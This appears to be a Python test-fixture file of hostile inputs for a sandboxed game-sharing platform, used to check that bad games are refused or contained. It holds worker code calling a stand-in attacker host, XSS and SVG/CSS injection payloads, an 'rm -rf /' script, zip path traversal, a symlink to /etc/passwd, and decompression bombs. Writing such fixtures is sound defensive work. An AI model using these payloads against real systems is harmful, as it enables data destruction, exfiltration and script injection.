"""Games that somebody made to do harm: as text in the editor of a page, as links, as files, as games that are opened
from a link, and as the compiled rules that a server takes. EVIL stands for the address of a host that must hear
nothing. docs/lab/workshop.md tells what became of them."""

import base64
import io
import json
import stat
import struct
import warnings
import zipfile
import zlib
from collections.abc import Callable, Mapping
from typing import Any, NamedTuple

import msgspec

from rookery.core.errors import BrokenRules, ForbiddenModule
from rookery.wasm.given_game import MOST_MODULE, GivenPoints
from rookery.workshop.game_zip import MOST_ZIPPED, zipped
from tests.wasm.hostile import ACTIONS, FOREVER, PLY, VERBS, assembled, by_chance, given_six, six_plies

# ── Text in the editor, before that of facts.py ──────────────────────────────
STOPPED = "Python has stopped"
LATE = "did not open within 20 seconds"
_SENT = (
    "from pyodide.ffi import to_js\nimport js\n"
    "said = lambda **told: to_js(told, dict_converter=js.Object.fromEntries)\n"
)


class HostileText(NamedTuple):
    """`page`: a part of what the page says of it; "": it is shown as any other, and does nothing more."""

    text: str
    page: str = ""


TEXTS: Mapping[str, HostileText] = {
    "asks a host by all ways that a worker has": HostileText(
        "import js\nfor way in ('fetch(\"EVIL/1\")', 'new WebSocket(\"EVIL/2\")', 'importScripts(\"EVIL/3\")', "
        "'new EventSource(\"EVIL/4\")', 'new Worker(\"EVIL/5\")', 'import(\"EVIL/6\")', 'indexedDB.open(\"x\")', "
        "'localStorage.x = 1', 'new BroadcastChannel(\"rookery\").postMessage(1)'):\n"
        "    js.eval('try { Promise.resolve(' + way + ').catch(() => 0) } catch {}')",
    ),
    "loads a package of another host": HostileText(
        "import pyodide_js\npyodide_js.loadPackage('EVIL/p-1.0-py3-none-any.whl')",
    ),
    "uses the sockets of Python": HostileText(
        "import urllib.request\ntry:\n    urllib.request.urlopen('EVIL/u', timeout=2)\nexcept Exception:\n    pass",
    ),
    "never ends": HostileText("while True: pass", LATE),
    "calls itself until the stack is full": HostileText(
        "import sys\nsys.setrecursionlimit(10**9)\ndef f(n): return f(n + 1) + 1\nf(0)", "cannot be opened"
    ),
    # without memory, Python may not even be able to say so in full
    "takes all memory": HostileText(
        "x = []\nwhile True: x.append(bytearray(1 << 27))", f"MemoryError|{LATE}|answered in the place of Python"
    ),
    "ends Python": HostileText("import os\nos.abort()", "Python failed"),
    "closes the worker": HostileText("import js\njs.close()", LATE),
    "answers in the place of Python, with what is no answer": HostileText(
        _SENT + "for n in range(60): js.postMessage(said(kind='answer', id=n, text='{'))",
        "answered in the place of Python",
    ),
    "answers with a game that has no players": HostileText(
        _SENT + "import json\n"
        "told = json.dumps({'failure': None, 'card': {'slug': 'another', 'players': 5}, 'name': '../x'})\n"
        "for n in range(60): js.postMessage(said(kind='answer', id=n, text=told))",
        "does not say who can play it",
    ),
    "says little, without end": HostileText(_SENT + "m = said(kind='x')\nwhile True: js.postMessage(m)", STOPPED),
    "says much, without end": HostileText(
        _SENT + "m = said(kind='answer', id=-1, text='x' * 7_000_000)\nwhile True: js.postMessage(m)", STOPPED
    ),
    "says three million objects at once": HostileText(
        "import js\njs.eval('postMessage(Array.from({ length: 60 }, () => Array.from({ length: 50_000 }, Object)))')",
        STOPPED,
    ),
    "changes what Python itself means by words of the laws": HostileText(
        "import builtins\nbuiltins.all = lambda given: True\nbuiltins.any = lambda given: False", "cannot be opened"
    ),
    "has seats whose names are markup": HostileText("COLOURS = ('<img src=EVIL/7 onerror=hit=1>', '<b>\\u202eb')"),
}


# ── Links that hold no game ──────────────────────────────────────────────────
NO_GAME = "This link holds no game"


def compressed(text: bytes) -> str:
    """The end of a link (web/src/sandbox/made_links.ts)."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    return base64.urlsafe_b64encode(packer.compress(text) + packer.flush()).decode().rstrip("=")


LINKS: Mapping[str, Callable[[], str]] = {
    "has 700,000 letters": lambda: "A" * 700_000,
    "is no compressed text": lambda: "B" * 599_999,
    "is cut off": lambda: "abcde",
    "unpacks to 300 MB": lambda: compressed(bytes(300_000_000)),
    "holds lists in lists": lambda: compressed(b"[" * 3_900_000),
}


# ── Files ────────────────────────────────────────────────────────────────────
UNREADABLE = "cannot be read as a .zip"
NOTHING_IN_IT = "no game is in this .zip"
TOO_MUCH_IN_IT = "more than a game may"
HONEST = b'from one.rules import LINE\nFACTS = Facts(slug="one", name="One")\n'  # facts.py
_LARGE = 30_000_000


def _zip(*files: tuple[str, bytes], method: int = zipfile.ZIP_DEFLATED, mode: int = 0) -> bytes:
    """A .zip as programs of others make it. `mode`: of all files, as in UNIX."""
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", method) as archive, warnings.catch_warnings(action="ignore"):  # a name twice
        for name, data in files:
            file = zipfile.ZipInfo(name)
            file.external_attr = mode << 16
            archive.writestr(file, data, method)
    return target.getvalue()


class HostileFile(NamedTuple):
    """`page`: a part of why it is refused; "": only the texts of its game are taken."""

    data: Callable[[], bytes]
    page: str = ""


FILES: Mapping[str, HostileFile] = {
    "is a program": HostileFile(lambda: b"#!/bin/sh\nrm -rf /", UNREADABLE),
    "is cut off": HostileFile(lambda: zipped({"one/facts.py": HONEST})[:-40], UNREADABLE),
    "has no facts": HostileFile(lambda: zipped({"one/rules.py": b""}), NOTHING_IN_IT),
    "has no folder": HostileFile(lambda: zipped({"facts.py": HONEST}), NOTHING_IN_IT),
    "has a folder that is no package": HostileFile(lambda: zipped({"1-a/facts.py": HONEST}), NOTHING_IN_IT),
    "is no text": HostileFile(lambda: zipped({"one/facts.py": b"\xff"}), UNREADABLE),
    "unpacks to 30 MB": HostileFile(lambda: zipped({"one/facts.py": b" " * _LARGE}), TOO_MUCH_IN_IT),
    "unpacks to 30 MB and says 10 bytes": HostileFile(
        lambda: zipped({"one/facts.py": b" " * _LARGE}).replace(struct.pack("<L", _LARGE), struct.pack("<L", 10)),
        UNREADABLE,
    ),
    "is compressed so that nobody can stop in between": HostileFile(
        lambda: _zip(("one/facts.py", b" " * 1_000_000), method=zipfile.ZIP_BZIP2), "in an unusual way"
    ),
    "has 10,000 files": HostileFile(lambda: zipped({f"one/a{n}.py": b"" for n in range(10_000)}), TOO_MUCH_IN_IT),
    "has one file too many": HostileFile(
        lambda: zipped({f"one/a{n}.py": b"" for n in range(MOST_ZIPPED + 1)}), TOO_MUCH_IN_IT
    ),
    "is in a folder outside": HostileFile(lambda: zipped({"../../one/facts.py": HONEST}), NOTHING_IN_IT),
    "has paths that lead out": HostileFile(
        lambda: _zip(("one/facts.py", HONEST), ("one/../../x.py", b""), ("/etc/x.py", b""), ("one\\..\\x.sh", b""))
    ),
    "has a name twice": HostileFile(lambda: _zip(("one/facts.py", b"1 / 0"), ("one/facts.py", HONEST))),
    "has links to files of the machine": HostileFile(
        lambda: _zip(("one/facts.py", HONEST), ("one/rules.md", b"/etc/passwd"), mode=stat.S_IFLNK | 0o777)
    ),
}


# ── Drawings, and rules as HTML ──────────────────────────────────────────────
_USED_AGAIN = "".join(f'<g id="p{n + 1}">' + f'<use href="#p{n}"/>' * 10 + "</g>" for n in range(9))
DRAWINGS: Mapping[str, str] = {
    "a name that holds a rule": r"<style>.a{--x\7d \20 body\7b display\3a none\7d \20\2e q\7b y:1}</style>",
    "styles of the page": "<style>body, aside {display: none; position: fixed; fill: red}</style>",
    "addresses in styles": r'<style>.a{fill:image-set("//evil.test/1");--b:u\72l(//evil.test/2)}'
    '@import "//evil.test/3";@media all{body{display:none}}</style>',
    "scripts": '<script>hit = 1</script><g onload="hit = 1"/>'
    '<foreignObject><img src=x onerror="hit = 1"/></foreignObject>',
    "addresses": '<image href="//evil.test/1"/><use href="//evil.test/2#a"/><path fill="url(//evil.test/3)"/>'
    r'<path fill="u\72l(//evil.test/4)" style="fill:url(//evil.test/5)"/><a href="javascript:hit=1"><text>q</text></a>',
    "another drawing in a text": '</svg>q<title lang="<svg onload=hit=1>">q</title><svg>',
    "parts that are used again and again": f'<g id="p0"><path d="M0 0h1v1z"/></g>{_USED_AGAIN}',
    "parts of one name, of which the first counts": f'<g id="p0">{"<path/>" * 9}</g>{_USED_AGAIN}'
    + "".join(f'<g id="p{n}"/>' for n in range(10)),
    "parts by other letters of their names": f'<g id="p0"><path d="M0 0h1v1z"/></g>{_USED_AGAIN.replace("#p", "#%70")}',
    "parts in rings": f'<g id="t"><use href="#p0"/>{"<path/>" * 400}</g><g id="p0"><use href="#t"/></g>{_USED_AGAIN}',
    "drawings at each corner of a line": f'<marker id="m" markerWidth="9" markerHeight="9">{"<path/>" * 200}</marker>'
    f'<path marker-mid="url(#m)" d="M0 0{"h.001v.001" * 15_000}"/>',
    "blurs": '<path d="M0 0h8v8z" filter="blur(99px)"/>' * 2_000,
    "patterns in patterns": "".join(
        f'<pattern id="a{n}" width="1" height="1"><g class="a{n}">{"<path/>" * 9}</g></pattern>' for n in range(9)
    )
    + f"<style>{''.join(f'.a{n + 1} path {{fill: url(#a{n})}}' for n in range(9))}</style>",
    "styles that are long to find": f"<style>{'svg:not(:has(:has(* > * + *))) {fill: red}' * 9_000}</style>",
    "very many parts": '<path d="M0 0"/>' * 200_000,
}
RULES_PAGES: Mapping[str, str] = {
    "markup": '<a href="javascript:hit=1">q</a><form action="//evil.test"><input name="body"></form>'
    '<img src="//evil.test/1" onerror="hit=1"><iframe src="//evil.test/2"></iframe><base href="//evil.test/3">'
    '<style>body{display:none}</style><div style="position:fixed" title="q">q</div><p popover id="body">q</p>'
    '<div class="panel in-short" id="panel">q</div>',
    "very much of it": "<p>q</p>" * 500_000,
}


# ── Games that are opened from a link and played ─────────────────────────────
MARKUP = "<img src=EVIL/8 onerror=hit=1><script>hit=1</script>\\u202e"
NOT_PICTURED = "The game drew no picture that can be shown"
_HEADINGS = "".join(f"<h2 id='a{n}'>q</h2>" for n in range(4_000))
_REPEATED = "<h1 id=a>A</h1>" + "<h2 id=a>Again</h2>" * 3
_NOBODY = json.dumps([{"slug": "x", "name": "x", "tagline": "", "players": [*range(5_000)]}])

MadeChange = Callable[[Mapping[str, Any]], Mapping[str, Any]]


_SMALL_ONES = "".join(text for text in DRAWINGS.values() if len(text) < 5_000)


class HostilePart(NamedTuple):
    """A part that takes the place of that of a game that works. `page`: a part of what the page says; "": the board
    and all of the page work. `at`: the button of the table, or the page of the game, where it is seen."""

    change: MadeChange
    page: str = ""
    at: str = ""


def _file(start: str, text: str) -> MadeChange:
    """The file whose path begins so has this text."""

    def change(made: Mapping[str, Any]) -> Mapping[str, Any]:
        [path] = [path for path in made["files"] if path.startswith(start)]
        return {**made, "files": {**made["files"], path: text}}

    return change


def _code(members: str, before: str = "") -> MadeChange:
    """The code has these functions instead of its own, which are `own`. `drawn(value)` makes a scene of any value."""
    drawn = (
        "const drawn = (value) => { const it = { toJSON: () => value, lettered: () => it, idle: () => it, "
        "only: () => it, score: [] }; return it }"
    )

    def change(made: Mapping[str, Any]) -> Mapping[str, Any]:
        [text] = [text for path, text in made["files"].items() if path.startswith("code/")]
        honest = text.replace("export default", "const honest =")
        changed = f"export default ($) => {{ {drawn}; const own = honest($); return {{ ...own, {members} }} }}"
        return _file("code/", f"{before}\n{honest}\n{changed}")(made)

    return change


def _program(text: str, worker: str = "site") -> MadeChange:
    """This runs before what one of the page's workers is told of the game."""
    return lambda made: {**made, worker: f"{text}\n{made[worker]}"}


def _scene(changed: str) -> MadeChange:
    """The scene has these parts instead of its own."""
    return _code(f"scene: (view, facing) => Object.assign(own.scene(view, facing), {{ {changed} }})")


MADE: Mapping[str, HostilePart] = {
    "asks a host by all ways that a worker has": HostilePart(
        _program(
            "for (const way of [() => fetch('EVIL/1'), () => new WebSocket('EVIL/2'), () => importScripts('EVIL/3'), "
            "() => import('EVIL/4'), () => new Worker('EVIL/5'), () => indexedDB.open('x'), () => (localStorage.x = 1)]"
            ") try { Promise.resolve(way()).catch(() => 0) } catch {}"
        )
    ),
    "has labels that are markup": HostilePart(
        _scene(f"caption: '{MARKUP}', labels: [{{ id: 'a', x: 1, y: 1, text: '{MARKUP}', size: 1, style: '' }}]")
    ),
    "has words that are markup, and long": HostilePart(
        _code(f"action_words: () => '{MARKUP}'.repeat(2_000), action_text: () => '{MARKUP}'")
    ),
    "has styles and drawings that are more than names": HostilePart(
        _scene("spots: own.scene(view, facing).spots.map((spot) => ({ ...spot, style: '\"><img src=EVIL/9>' }))")
    ),
    "has drawings that are more than that": HostilePart(
        _file(
            "art/", f"<svg viewBox='0 0 8 8'>{''.join(text for text in DRAWINGS.values() if len(text) < 5_000)}</svg>"
        )
    ),
    "draws nothing": HostilePart(_code("scene: () => drawn(null)"), NOT_PICTURED),
    "draws what is no picture": HostilePart(_code("scene: () => drawn({ spots: [null], width: '8' })"), NOT_PICTURED),
    "draws a picture without end": HostilePart(_scene("width: 1e9, height: 0"), NOT_PICTURED),
    "draws parts of one name": HostilePart(
        _scene("labels: ['a', 'a'].map((id) => ({ id, x: 1, y: 1, text: 'q', size: 1, style: '' }))"), NOT_PICTURED
    ),
    "draws 15,000 places to click": HostilePart(
        _scene("spots: Array.from({ length: 15_000 }, (_, n) => ({ id: String(n) }))"), "The game says too much"
    ),
    "draws a million parts": HostilePart(_code("scene: () => drawn(Array(1_000_000).fill(0))"), "The game broke"),
    "says three million objects at once": HostilePart(
        _code("scene: () => postMessage(Array.from({ length: 60 }, () => Array.from({ length: 50_000 }, Object)))"),
        "The game broke",
    ),
    "never ends when it is drawn": HostilePart(_code("scene: () => { for (;;); }"), "did not draw itself in time"),
    "says that 5,000 can play it": HostilePart(_file("games.json", _NOBODY), "does not say who can play it"),
    "says no card": HostilePart(_file("games.json", "null"), "does not say who can play it"),
    "answers what is no answer": HostilePart(
        _program(
            "setInterval(() => { for (let id = 0; id < 60; id++) postMessage({ kind: 'heard', id, text: '{' }) }, 100)"
        ),
        "The game said what no game says",
    ),
    "welcomes to no table": HostilePart(
        _program(
            "setInterval(() => { for (let id = 0; id < 60; id++) "
            "postMessage({ kind: 'heard', id, text: '{\"type\":\"welcome\"}' }) }, 100)"
        ),
        "The game said what no game says",
    ),
    "has rules of 4,000 headings": HostilePart(_file("rules/", _HEADINGS), "too long to be shown", "Rules"),
    "has headings of one name": HostilePart(_file("rules/", _REPEATED), "Again", "Rules"),
    "has lessons that are none": HostilePart(_file("answers/", "[]"), "cannot be shown", "learn"),
}


# ── What no server takes for a game ──────────────────────────────────────────
ORDERS: Mapping[str, Callable[[], bytes]] = {
    "is no JSON": lambda: b"\x00\xff",
    "holds lists in lists": lambda: b"[" * 300_000,
    "has ten megabytes": lambda: b"{" + b" " * 10_000_000 + b"}",
    "is the text of a game": lambda: TEXTS["never ends"].text.encode(),
    "is a .zip": lambda: zipped({"one/facts.py": HONEST}),
}


# ── Compiled rules ───────────────────────────────────────────────────────────
class HostileRules(NamedTuple):
    """`game`: as JSON; `error`: with these words."""

    game: Callable[[], dict[str, Any]]
    error: type[Exception]
    words: str


def _json(module: bytes | None = None, **facts: Any) -> dict[str, Any]:
    game: dict[str, Any] = json.loads(msgspec.json.encode(given_six(module)))
    game["facts"] |= facts
    return game


def _module(make: Callable[[], bytes], words: str) -> HostileRules:
    """A module that no server runs. The game says that it has points."""
    points = msgspec.to_builtins(GivenPoints("point", "points"))
    return HostileRules(lambda: _json(make(), points=points), ForbiddenModule, words)


def _rules(words: str, **parts: str) -> HostileRules:
    """A module with other parts, which the first look at it finds."""
    return HostileRules(lambda: _json(six_plies(**parts)), BrokenRules, words)


def _facts(words: str, error: type[Exception] = msgspec.ValidationError, **facts: Any) -> HostileRules:
    return HostileRules(lambda: _json(**facts), error, words)


def _state(words: str, error: type[Exception] = msgspec.ValidationError, **state: Any) -> HostileRules:
    def game() -> dict[str, Any]:
        game = _json()
        return {**game, "state": game["state"] | state}

    return HostileRules(game, error, words)


GROWING = "(loop $again (drop (memory.grow (i32.const 1))) (br $again))"
LISTED = "(i32.store {0} (i32.const {1})) (i32.store offset=4 {0} (i32.const {2})) (call $answer (i64.const 2))"

# modules that are refused as they are
FORMS: dict[str, HostileRules] = {
    "no module": _module(lambda: b"", "no module of WebAssembly"),
    "a program": _module(lambda: b"#!/bin/sh", "no module of WebAssembly"),
    "cut off": _module(lambda: six_plies()[:-3], "cut off"),
    "a section longer than the file": _module(lambda: six_plies() + b"\x00\xff\xff\x7f", "cut off"),
    "a length without end": _module(lambda: six_plies() + b"\x0a\xff\xff\xff\xff\xff\xff", "cut off"),
    "an unknown section": _module(lambda: six_plies() + b"\x63\x00", "unknown section"),
    "nonsense inside": _module(lambda: six_plies().replace(b"rules.mover", b"rules.legal"), "no valid WebAssembly"),
    "imports": _module(lambda: assembled('(module (import "env" "read" (func)))'), "imports something"),
    "a table": _module(lambda: six_plies(more="(table 10 funcref)"), "has a table"),
    "a start": _module(lambda: six_plies(more="(func $go) (start $go)"), "starts by itself"),
    "much memory": _module(lambda: six_plies(memory="65"), "memory of at most 4,194,304 bytes"),
    "shared memory": _module(lambda: six_plies(memory="1 2 shared"), "no valid WebAssembly"),
    "memory of 64 bits": _module(lambda: six_plies(memory="i64 1"), "no valid WebAssembly"),
    "more and more memory": _module(lambda: six_plies(legal=GROWING), "asks for more memory"),
    "a call by number": _module(lambda: six_plies(legal="(drop (ref.null func))"), "the instruction 0xd0"),
    "no memory": _module(lambda: assembled("(module)"), "must export a memory"),
    "no heap": _module(lambda: assembled('(module (memory (export "memory") 1))'), "must export heap"),
    "no verbs": _module(lambda: six_plies().replace(b"rules.mover", b"rules.mower"), "must export rules.mover"),
    "another type": _module(
        lambda: six_plies(more='(func (export "rules.points") (result i32) (i32.const 1))'),
        "must export rules.points, a function of one i32",
    ),
}
# modules that do what no rules may
ANSWERS: dict[str, HostileRules] = {
    "mover without end": _rules("mover does not end", mover=FOREVER),
    "legal without end": _rules("legal does not end", legal=FOREVER),
    "set-up without end": _rules("setup does not end", setup=FOREVER),
    "a trap": _rules("legal gives up", legal="(unreachable)"),
    "recursion": _rules("mover calls itself too often", mover="(call $self)", more="(func $self (call $self))"),
    "an address far away": _rules("hide reaches outside its memory", hide="(i32.store (i32.const -8) (i32.const 1))"),
    "a division by zero": _rules("mover divides by zero", mover="(drop (i32.div_u (i32.const 1) (i32.const 0)))"),
    "a heap at the end": _rules("setup has no room", heap="4194300"),
    "a heap below zero": _rules("setup has no room", heap="-16"),
    "data outside": _rules("setup reaches outside its memory", more='(data (i32.const 65530) "much too long")'),
    "a billion actions": _rules("legal counts 1000000000 actions", legal="(call $answer (i64.const 1000000000))"),
    "fewer actions than none": _rules("legal counts -1 actions", legal="(call $answer (i64.const -1))"),
    "an action twice": _rules("legal lists an action twice", legal=LISTED.format(ACTIONS, 1, 1)),
    "an unknown action": _rules("not one of the 4 of the facts", legal=LISTED.format(ACTIONS, 0, 4)),
    "an action below zero": _rules("not one of the 4 of the facts", legal=LISTED.format(ACTIONS, -1, 0)),
    "nothing to do": _rules("nobody can go on", legal=""),
    "seat 77": _rules("mover names the seat 77", mover="(call $answer (i64.const 77))"),
    "a seat below all": _rules("mover names the seat -3", mover="(call $answer (i64.const -3))"),
    "weights that are no numbers": _rules("weights gives a weight", **by_chance("nan")),
    "weights without limit": _rules("weights gives a weight", **by_chance("inf")),
    "weights that cannot be added": _rules("weights gives a weight", **by_chance("1e308")),
    "weights of nothing": _rules("weights gives a weight", **by_chance("0")),
    "utilities that are no numbers": _rules(
        "utilities gives a number",
        mover="(call $answer (i64.const -2))",
        utilities=f"(f64.store {ACTIONS} (f64.const nan))",
    ),
    "hiding that goes on": _rules(
        "what is hidden changes when it is hidden again",
        hide=f"(i32.store8 (call $word (i32.const 1)) (i32.add {PLY} (i32.const 1)))",
    ),
    "hiding what the mover needs": _rules(
        "who is to move cannot see all that is legal", hide="(i32.store8 (call $word (i32.const 1)) (i32.const 6))"
    ),
}
DATA: dict[str, HostileRules] = {
    "a name as markup": _facts("name", name="<script>alert(1)</script>"),
    "a name that turns the text": _facts("name", name="ab\u202edc"),
    "a name of 100,000 letters": _facts("name", name="a" * 100_000),
    "a seat as markup": _facts("seats", seats={2: ["<b>", "b"]}),
    "a style that is more than that": _facts("seat_styles", seat_styles=['red" onclick="x', "blue"]),
    "too many seats": _facts("seats", seats={99: ["a"] * 99}),
    "a seat without a name": _facts("name each seat", ForbiddenModule, seats={2: ["a"]}),
    "no seats": _facts("name each seat", ForbiddenModule, seats={}),
    "a seat without a style": _facts("each seat a style", ForbiddenModule, seat_styles=["red"]),
    "facts of a billion actions": _facts("actions", actions=10**9),
    "more of chance than there are": _facts("more legal actions, or more of chance", ForbiddenModule, chance_actions=4),
    "a game without end": _facts("longest", longest=10**9),
    "an option twice": _facts(
        "two options have the same name", ForbiddenModule, options=[{"name": "a", "choices": ["x"]}] * 2
    ),
    "a choice twice": _facts(
        "two choices of the option a", ForbiddenModule, options=[{"name": "a", "choices": ["x", "x"]}]
    ),
    "a default for some": _facts(
        "limits its default", ForbiddenModule, options=[{"name": "a", "choices": ["x"], "only": {"x": [3]}}]
    ),
    "a fact that is none": _facts("opened", opened="lambda: 1"),
    "a slug of its own": _facts("slug", slug="made-0"),
    "a hash of its own": HostileRules(lambda: {**_json(), "digest": "0" * 32}, msgspec.ValidationError, "digest"),
    "a module that is too large": HostileRules(
        lambda: _json(six_plies() + bytes(MOST_MODULE)), msgspec.ValidationError, "262144"
    ),
    "states of no size": _state("size", size=0),
    "states of a size below zero": _state("size", size=-8),
    "states of no whole words": _state("size", size=9),
    "states of a size without limit": _state("size", size=2**40),
    "states of no fields": _state("fields", fields={}),
    "a field outside": _state("lies outside", ForbiddenModule, fields={"ply": {"kind": "uint8", "offset": 8}}),
    "a field that is too long": _state(
        "lies outside", ForbiddenModule, fields={"ply": {"kind": "int64", "offset": 0, "shape": [2]}}
    ),
    "a shape without limit": _state(
        "lies outside", ForbiddenModule, fields={"ply": {"kind": "int8", "offset": 0, "shape": [4096] * 4}}
    ),
    "a kind that is none": _state("kind", fields={"ply": {"kind": "object", "offset": 0}}),
    "a field whose name is code": _state("fields", fields={"__class__; x": {"kind": "int8", "offset": 0}}),
    "fields that are a text": _state("fields", fields="much"),
}

REFUSED = DATA | FORMS | ANSWERS

# modules whose first look shows nothing: they break off at the second move
SECOND, THIRD = f"(i32.ge_u {PLY} (i32.const 1))", f"(i32.ge_u {PLY} (i32.const 2))"  # ply, or a later one
AT_THE_TABLE: Mapping[str, tuple[Mapping[str, str], str]] = {
    "legal without end": ({"legal": f"(if {THIRD} (then {FOREVER})) {VERBS['legal']}"}, "legal does not end"),
    "play without end": ({"play": f"(if {SECOND} (then {FOREVER})) {VERBS['play']}"}, "play does not end"),
    "mover without end": ({"mover": f"(if {THIRD} (then {FOREVER})) {VERBS['mover']}"}, "mover does not end"),
    "hide without end": ({"hide": f"(if {THIRD} (then {FOREVER})) {VERBS['hide']}"}, "hide does not end"),
    "knows without end": ({"knows": f"(if {SECOND} (then {FOREVER})) {VERBS['knows']}"}, "knows does not end"),
    "seat 77": (
        {"mover": f"{VERBS['mover']} (if {THIRD} (then (call $answer (i64.const 77))))"},
        "mover names the seat 77",
    ),
    "a billion actions": (
        {"legal": f"{VERBS['legal']} (if {THIRD} (then (call $answer (i64.const 1000000000))))"},
        "legal counts 1000000000 actions",
    ),
    "draws without end": (
        {
            "mover": f"{VERBS['mover']} (if {THIRD} (then (call $answer (i64.const -1))))",
            "weights": by_chance("1")["weights"],
            "play": f"(if (i32.lt_u {PLY} (i32.const 3)) (then {VERBS['play']}))",
        },
        "longer than 8 plies",
    ),
    "utilities that are no numbers": (
        {
            "mover": f"{VERBS['mover']} (if {THIRD} (then (call $answer (i64.const -2))))",
            "utilities": f"(f64.store {ACTIONS} (f64.const nan))",
        },
        "utilities gives a number",
    ),
}
